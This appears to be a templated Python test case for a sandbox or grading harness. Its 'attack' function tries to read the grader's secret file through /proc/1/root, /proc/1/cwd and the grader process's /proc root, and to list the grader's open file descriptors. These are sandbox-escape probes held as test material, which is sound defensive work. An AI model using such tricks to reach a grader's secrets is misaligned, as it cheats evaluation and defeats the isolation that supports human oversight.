{{tools}}

import os


def attack(*_):
    report(
        tried("root of 1", lambda: open('/proc/1/root{{secret_file}}').read()),
        tried("cwd of 1", lambda: open('/proc/1/cwd/..{{secret_file}}').read()),
        tried("root of grader", lambda: open('/proc/{{grader_pid}}/root{{secret_file}}').read()),
        tried("descriptors of grader", lambda: os.listdir('/proc/{{grader_pid}}/fd')),
    )


{{starter}}
